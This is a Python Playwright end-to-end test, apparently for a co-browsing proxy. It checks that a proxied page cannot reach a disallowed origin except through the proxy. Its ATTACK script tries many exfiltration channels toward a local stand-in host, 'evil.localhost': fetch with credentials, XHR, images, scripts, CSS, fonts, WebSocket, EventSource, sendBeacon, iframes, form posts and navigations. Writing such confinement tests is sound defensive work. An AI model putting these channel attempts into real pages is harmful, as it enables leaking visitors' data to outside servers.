"""Only the proxy: a proxied page tries every way out, in Chromium (issue 9, section 3).

A site the demo allows (`--allow-origin`, on 127.0.0.1 and on site.demo.localhost: the
cross-site and the same-site shape) serves a page whose script, inside the overlay,
tries to reach a server on an origin that is not allowed (`evil.localhost`, another
port, started here and stopped at the end), which records every request it receives:
fetch (default, with and without credentials, a Request), XHR, img (property and
attribute), script, stylesheet, CSS url() in an inline style and a style sheet,
@font-face and the FontFace API, iframe, form post, WebSocket, EventSource,
sendBeacon; then the navigations: a link, `location = ...`, a server redirect, a meta
refresh, a form post, a link with target=_blank and window.open.

- proxy.other_origins "refuse": the server receives nothing at all.
- "fetch" (the default): subresources reach it only through the proxy, which the browser
  shows: no request of the browser to its host ever got an answer (everything the
  browser fetched came from proxy hosts), and what the server received carries no
  cookie, never names a proxy host as Origin or Referer, and is never a navigation.

Either way every navigation shows the "outside co-browsing" page inside the overlay
(or in the new tab the site opened), with the address and a link out, and the overlay
stays bridged: the agent's mirror shows it too. And a page's own
`fetch(url, {credentials: "omit"})` works, anonymously (section 4).
"""

from __future__ import annotations

import html
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from typing import Any

import pytest
from playwright.sync_api import Frame, Page, Request, expect
from starlette.applications import Starlette
from starlette.requests import Request as HttpRequest
from starlette.responses import HTMLResponse, JSONResponse, RedirectResponse, Response
from starlette.routing import Route, WebSocketRoute
from starlette.websockets import WebSocket

from tests.e2e.conftest import Pair
from tests.e2e.demo_process import Demo, free_port, serving_in_thread, start_demo, stop_demo
from tests.e2e.test_story import OVERLAY, agent_joins, ask_for_pin, mirror
from tests.server.other_site import OtherSite
from tests.server.upstream_site import PNG

pytestmark = pytest.mark.e2e

OUTSIDE = "This page is outside co-browsing"
AGENT_MARK = "x-test-browser"
PROXY_DOMAIN = "cobrowse.demo.localhost"
# What a navigation is to the server that records: never what the proxy sends it.
PAGE_DESTS = {"document", "iframe", "frame", "embed", "object"}
NAVIGATION_PATHS = {
    "/link",
    "/blank",
    "/assigned",
    "/moved-to",
    "/refreshed",
    "/posted",
    "/opened",
    "/framed",
    "/frame-post",
}


# --- the server on an origin that is not allowed ---------------------------------------


@dataclass
class Evil(OtherSite):
    """The recording site (tests/server/other_site.py) on its own host name."""

    port: int = 0


def evil_app(evil: Evil) -> Starlette:
    cors = {"access-control-allow-origin": "*"}

    async def anything(request: HttpRequest) -> Response:
        path = request.url.path
        evil.record(request.method, path, dict(request.headers))
        if path.endswith(".png"):
            return Response(PNG, media_type="image/png", headers={"set-cookie": "evil=1"})
        if path.endswith(".js"):
            return Response("window.__evil = 1;", media_type="text/javascript", headers=cors)
        if path.endswith(".css"):
            return Response("#ok { color: rgb(1, 2, 3) }", media_type="text/css", headers=cors)
        if path.endswith(".woff2"):
            return Response(b"wOF2" + bytes(60), media_type="font/woff2", headers=cors)
        if path == "/sse":
            return Response("data: hi\n\n", media_type="text/event-stream", headers=cors)
        if path.startswith("/json"):
            return JSONResponse({"evil": True}, headers=cors)
        return HTMLResponse("<!doctype html><h1>Evil page</h1>")

    async def socket(ws: WebSocket) -> None:
        evil.record("WS", ws.url.path, dict(ws.headers))
        await ws.accept()
        await ws.send_text("hi")
        await ws.close()

    methods = ["GET", "POST", "HEAD", "OPTIONS", "PUT"]
    return Starlette(
        routes=[WebSocketRoute("/ws", socket), Route("/{path:path}", anything, methods=methods)]
    )


@pytest.fixture(scope="module")
def evil() -> Iterator[Evil]:
    port = free_port()
    server = Evil(origin=f"http://evil.localhost:{port}", port=port)
    with serving_in_thread(evil_app(server), server.port, what="the evil server"):
        yield server


# --- the allowed site with the page that tries to get out --------------------------------


def escape_page(cobrowse: str, evil: str) -> str:
    e = html.escape(evil)
    return f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Escape attempts</title>
<link rel="icon" href="data:,"></head>
<body>
<h1>Escape attempts</h1>
<p id="ok">Nothing to see</p>
<p><a id="link" href="{e}/link">A link elsewhere</a></p>
<p><a id="blank" href="{e}/blank" target="_blank">Elsewhere in a new tab</a></p>
<p><a id="moved" href="/moved">A page that moved elsewhere</a></p>
<p><a id="refresh" href="/refresh.html">A page that refreshes elsewhere</a></p>
<form id="post" method="post" action="{e}/posted"><input name="q" value="1">
<button id="send">Send elsewhere</button></form>
<p><button id="open" type="button">Open a window elsewhere</button></p>
<script>
document.getElementById('open').addEventListener('click', () => {{
  window.open({evil!r} + '/opened');
}});
</script>
<script src="{html.escape(cobrowse)}/cobrowse.js" async></script>
</body></html>"""


def site_app(cobrowse: str, evil: str) -> Starlette:
    async def escape(request: HttpRequest) -> HTMLResponse:
        response = HTMLResponse(escape_page(cobrowse, evil))
        response.set_cookie("sid", "visitor-secret", httponly=True)
        return response

    async def moved(request: HttpRequest) -> RedirectResponse:
        return RedirectResponse(f"{evil}/moved-to", status_code=302)

    async def refresh(request: HttpRequest) -> HTMLResponse:
        return HTMLResponse(
            f'<!doctype html><meta http-equiv="refresh" content="0; url={evil}/refreshed">'
            "<p>Moving on</p>"
        )

    async def whoami(request: HttpRequest) -> JSONResponse:
        return JSONResponse({"sid": request.cookies.get("sid")})

    async def healthz(request: HttpRequest) -> Response:
        return Response("ok")

    return Starlette(
        routes=[
            Route("/escape.html", escape),
            Route("/moved", moved),
            Route("/refresh.html", refresh),
            Route("/whoami", whoami),
            Route("/healthz", healthz),
        ]
    )


@dataclass
class Setup:
    demo: Demo
    site_port: int

    def site(self, shape: str) -> str:
        host = "site.demo.localhost" if shape == "same-site" else "127.0.0.1"
        return f"http://{host}:{self.site_port}"


@pytest.fixture(scope="module")
def setups(
    tmp_path_factory: pytest.TempPathFactory, evil: Evil
) -> Iterator[Callable[[str], Setup]]:
    """Per policy: a demo that allows the site (both host names), and the site."""
    running: dict[str, Setup] = {}
    with ExitStack() as stack:

        def get(policy: str) -> Setup:
            if policy not in running:
                port = free_port()
                demo = start_demo(
                    tmp_path_factory.mktemp(f"confinement-{policy}"),
                    {
                        "COBROWSE_SESSION_VISITOR_GRACE_SECONDS": "5",
                        "COBROWSE_PROXY_MODE": "proxy",
                        "COBROWSE_PROXY_OTHER_ORIGINS": policy,
                    },
                    extra_args=[
                        "--allow-origin",
                        f"http://127.0.0.1:{port}",
                        "--allow-origin",
                        f"http://site.demo.localhost:{port}",
                    ],
                )
                stack.callback(stop_demo, demo)
                stack.enter_context(
                    serving_in_thread(site_app(demo.server, evil.origin), port, what="the site")
                )
                running[policy] = Setup(demo, port)
            return running[policy]

        yield get


# --- watching the browser ------------------------------------------------------------------


@dataclass
class Traffic:
    """Every HTTP request of the visitor's browser: in flight, and answered."""

    pending: set[Request] = field(default_factory=set)
    answered: list[str] = field(default_factory=list)

    def attach(self, page: Page) -> None:
        ctx = page.context
        ctx.on("request", lambda request: self.pending.add(request))
        ctx.on("requestfailed", lambda request: self.pending.discard(request))

        def finished(request: Request) -> None:
            self.pending.discard(request)
            self.answered.append(request.url)

        ctx.on("requestfinished", finished)

    def settle(self, page: Page, timeout: float = 20.0) -> None:
        """Until every request the browser started has been answered or has failed: the
        proxy answers a request only once it has what the other site gave it."""
        deadline = time.monotonic() + timeout
        while self.pending:
            if time.monotonic() > deadline:
                raise AssertionError(f"requests still open: {[r.url for r in self.pending]}")
            page.wait_for_timeout(50)


def overlay_frame(visitor: Page) -> Frame:
    handle = visitor.locator(OVERLAY).element_handle()
    assert handle is not None
    frame = handle.content_frame()
    assert frame is not None
    return frame


ATTACK = """async (evil) => {
  const out = {};
  const attempt = async (name, fn) => {
    try { out[name] = await fn(); } catch (e) { out[name] = 'blocked: ' + e.name; }
  };
  const element = (tag, set, parent) => new Promise((resolve) => {
    const el = document.createElement(tag);
    el.addEventListener('load', () => resolve('load'), {once: true});
    el.addEventListener('error', () => resolve('error'), {once: true});
    set(el);
    (parent || document.body).append(el);
  });
  const json = async (r) => r.status + ' ' + JSON.stringify(await r.json());
  await attempt('fetch', async () => json(await fetch(evil + '/json?default')));
  await attempt('fetch_include', async () =>
    json(await fetch(evil + '/json?include', {credentials: 'include'})));
  await attempt('fetch_omit', async () =>
    json(await fetch(evil + '/json?omit', {credentials: 'omit'})));
  await attempt('fetch_request', async () => json(await fetch(new Request(evil + '/json?req'))));
  await attempt('xhr', () => new Promise((resolve) => {
    const x = new XMLHttpRequest();
    x.open('GET', evil + '/json?xhr');
    x.onload = () => resolve(x.status);
    x.onerror = () => resolve('error');
    x.send();
  }));
  await attempt('img', () => element('img', (el) => { el.src = evil + '/a.png'; }));
  await attempt('img_attribute', () =>
    element('img', (el) => el.setAttribute('src', evil + '/b.png')));
  await attempt('img_innerhtml', () => new Promise((resolve) => {
    const box = document.createElement('div');
    box.innerHTML = '<img id="inner" src="' + evil + '/c.png">';
    const img = box.querySelector('img');
    img.addEventListener('load', () => resolve('load'), {once: true});
    img.addEventListener('error', () => resolve('error'), {once: true});
    document.body.append(box);
  }));
  await attempt('svg_innerhtml', () => new Promise((resolve) => {
    // Nested two levels deep, in the XLink namespace: found under the added box.
    const box = document.createElement('div');
    box.innerHTML = '<p><svg width="4" height="4"><image width="4" height="4" xlink:href="'
      + evil + '/d.png"/></svg></p>';
    const img = box.querySelector('image');
    img.addEventListener('load', () => resolve('load'), {once: true});
    img.addEventListener('error', () => resolve('error'), {once: true});
    document.body.append(box);
  }));
  await attempt('script', () => element('script', (el) => { el.src = evil + '/s.js'; }));
  await attempt('stylesheet', () => element('link', (el) => {
    el.rel = 'stylesheet'; el.href = evil + '/s.css';
  }, document.head));
  await attempt('iframe', () => element('iframe', (el) => {
    el.id = 'evil-frame'; el.src = evil + '/framed';
  }));
  await attempt('form_into_frame', () => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = 'post-target';
    document.body.append(frame);
    frame.addEventListener('load', () => resolve('load'), {once: true});
    const form = document.createElement('form');
    form.method = 'post'; form.action = evil + '/frame-post'; form.target = 'post-target';
    document.body.append(form);
    form.submit();
  }));
  await attempt('css_url', async () => {
    const style = document.createElement('style');
    style.textContent = '#bg1 { background-image: url(' + evil + '/bg1.png) }';
    document.head.append(style);
    const box = document.createElement('div');
    box.id = 'bg1'; box.textContent = 'x';
    document.body.append(box);
    const inline = document.createElement('div');
    inline.style.backgroundImage = 'url("' + evil + '/bg2.png")';
    inline.textContent = 'y';
    document.body.append(inline);
    return getComputedStyle(box).backgroundImage.includes('evil.localhost') ? 'direct' : 'mapped';
  });
  await attempt('font_face_rule', async () => {
    const style = document.createElement('style');
    style.textContent = '@font-face { font-family: EvilFont; src: url(' + evil + '/f.woff2) }';
    document.head.append(style);
    try { await document.fonts.load('16px EvilFont'); } catch (e) { return 'failed'; }
    return [...document.fonts].filter((f) => f.family.includes('EvilFont')).map((f) => f.status)
      .join();
  });
  await attempt('font_face_api', async () => {
    const face = new FontFace('EvilFace', 'url(' + evil + '/g.woff2)');
    try { await face.load(); return 'loaded'; } catch (e) { return 'failed: ' + e.name; }
  });
  await attempt('websocket', () => new Promise((resolve) => {
    const ws = new WebSocket(evil.replace('http:', 'ws:') + '/ws');
    ws.onmessage = (m) => { ws.close(); resolve('message ' + m.data); };
    ws.onerror = () => resolve('error');
  }));
  await attempt('eventsource', () => new Promise((resolve) => {
    const es = new EventSource(evil + '/sse');
    es.onmessage = (m) => { es.close(); resolve('message ' + m.data); };
    es.onerror = () => { es.close(); resolve('error'); };
  }));
  await attempt('beacon', () => navigator.sendBeacon(evil + '/beacon', 'x'));
  await attempt('own_fetch_omit', async () =>
    JSON.stringify(await (await fetch('/whoami', {credentials: 'omit'})).json()));
  await attempt('own_fetch', async () => JSON.stringify(await (await fetch('/whoami')).json()));
  return out;
}"""


def expect_outside(where: Any, address: str) -> None:
    """The outside page: the heading, the address, and a link out in a new tab."""
    expect(where.get_by_role("heading", name=OUTSIDE)).to_be_visible()
    expect(where.locator("#cobrowse-outside-url")).to_have_text(address)
    link = where.get_by_role("link", name="Open it in a new tab, outside co-browsing")
    expect(link).to_have_attribute("href", address)
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer")


def back_to_the_page(visitor: Page, page_url: str) -> None:
    overlay_frame(visitor).goto(page_url)
    expect(
        visitor.frame_locator(OVERLAY).get_by_role("heading", name="Escape attempts")
    ).to_be_visible()


@contextmanager
def shared(pair: Pair, setup: Setup, shape: str) -> Iterator[str]:
    """The visitor on the escape page, the agent joined, Allow: yields the overlay's
    proxied URL of the page."""
    visitor = pair.visitor
    visitor.goto(setup.site(shape) + "/escape.html")
    agent_joins(pair.agent, setup.demo, ask_for_pin(visitor))
    expect(visitor.get_by_role("dialog")).to_contain_text("Asha Rao")
    visitor.get_by_role("button", name="Allow").click()
    overlay = visitor.frame_locator(OVERLAY)
    expect(overlay.get_by_role("heading", name="Escape attempts")).to_be_visible()
    expect(mirror(pair.agent).get_by_role("heading", name="Escape attempts")).to_be_visible()
    url = overlay_frame(visitor).url
    assert f".{PROXY_DOMAIN}:" in url and url.endswith("/escape.html")
    yield url


@pytest.mark.parametrize("policy", ["refuse", "fetch"])
@pytest.mark.parametrize("shape", ["same-site", "cross-site"])
def test_a_proxied_page_reaches_no_other_site_but_through_the_proxy(
    pair: Pair, setups: Callable[[str], Setup], evil: Evil, shape: str, policy: str
) -> None:
    setup = setups(policy)
    evil.clear()
    traffic = Traffic()
    traffic.attach(pair.visitor)
    visitor, agent = pair.visitor, pair.agent
    # The agent's browser marks its requests: its mirror is not the visitor's browser.
    agent.context.set_extra_http_headers({AGENT_MARK: "agent"})
    overlay = visitor.frame_locator(OVERLAY)
    with shared(pair, setup, shape) as page_url:
        # Every subresource way out, from the page's own script.
        out = overlay_frame(visitor).evaluate(ATTACK, evil.origin)
        traffic.settle(visitor)
        # A page's own credential-less fetch gets the public answer (section 4).
        assert out["own_fetch_omit"] == '{"sid":null}', out
        assert out["own_fetch"] == '{"sid":"visitor-secret"}', out
        # An iframe of another site shows the outside page, inside the page.
        expect_outside(overlay.frame_locator("#evil-frame"), evil.origin + "/framed")
        if policy == "refuse":
            for name in ("fetch", "fetch_omit", "xhr", "script", "stylesheet", "eventsource"):
                assert not str(out[name]).startswith(("200", "load", "message")), (name, out)
            assert out["img"] == out["img_attribute"] == "error", out
            assert out["websocket"] == "error", out
        else:
            # Through the proxy, the page works as it did: the other site's answers.
            assert out["fetch"] == out["fetch_omit"] == '200 {"evil":true}', out
            assert out["xhr"] == 200 and out["script"] == "load", out
            assert out["img"] == out["img_attribute"] == out["img_innerhtml"] == "load", out
            assert out["svg_innerhtml"] == "load", out
            assert out["websocket"] == "message hi" and out["eventsource"] == "message hi", out
        # CSS a script writes as text (a <style>'s text, element.style, @font-face rules,
        # the FontFace API) is not rewritten: the policy refuses it instead (below: the
        # other site never saw a request from the browser itself).
        assert out["font_face_api"].startswith("failed"), out

        # Every way of navigating there: the outside page, in the overlay, mirrored.
        overlay.locator("#link").click()
        expect_outside(overlay, evil.origin + "/link")
        expect(mirror(agent).get_by_role("heading", name=OUTSIDE)).to_be_visible()
        back_to_the_page(visitor, page_url)
        overlay_frame(visitor).evaluate(
            "(url) => { location.href = url; }", evil.origin + "/assigned"
        )
        expect_outside(overlay, evil.origin + "/assigned")
        back_to_the_page(visitor, page_url)
        overlay.locator("#moved").click()
        expect_outside(overlay, evil.origin + "/moved-to")
        back_to_the_page(visitor, page_url)
        overlay.locator("#refresh").click()
        expect_outside(overlay, evil.origin + "/refreshed")
        back_to_the_page(visitor, page_url)
        overlay.locator("#send").click()
        expect_outside(overlay, evil.origin + "/posted")
        back_to_the_page(visitor, page_url)
        # New tabs the site opens: the outside page there (no credential needed).
        for trigger, address in (("#blank", "/blank"), ("#open", "/opened")):
            with visitor.context.expect_page() as opened:
                overlay.locator(trigger).click()
            popup = opened.value
            expect_outside(popup, evil.origin + address)
            assert PROXY_DOMAIN in popup.url
            popup.close()
        expect(overlay.get_by_role("heading", name="Escape attempts")).to_be_visible()
        traffic.settle(visitor)

    # The browser itself never got an answer from the other site's host.
    direct = [u for u in traffic.answered if "evil.localhost" in u.split("?", 1)[0]]
    assert direct == [], direct
    # What the visitor's side sent (the agent's mirror replays the page in the agent's own
    # browser, whose requests are not the proxy's to confine).
    seen = [s for s in evil.requests() if s.headers.get(AGENT_MARK) != "agent"]
    if policy == "refuse":
        assert seen == [], [(s.method, s.path, s.headers) for s in seen]
        return
    assert seen, "the fetch policy loads the other site's subresources through the proxy"
    for s in seen:
        where = (s.method, s.path, s.headers)
        assert s.path not in NAVIGATION_PATHS, where
        assert "cookie" not in s.headers, where
        assert s.headers.get("sec-fetch-mode") != "navigate", where
        assert s.headers.get("sec-fetch-dest", "") not in PAGE_DESTS, where
        for name in ("origin", "referer"):
            assert PROXY_DOMAIN not in s.headers.get(name, ""), where
    paths = {s.path for s in seen}
    assert paths >= {"/json", "/a.png", "/b.png", "/s.js", "/s.css", "/ws", "/sse", "/beacon"}
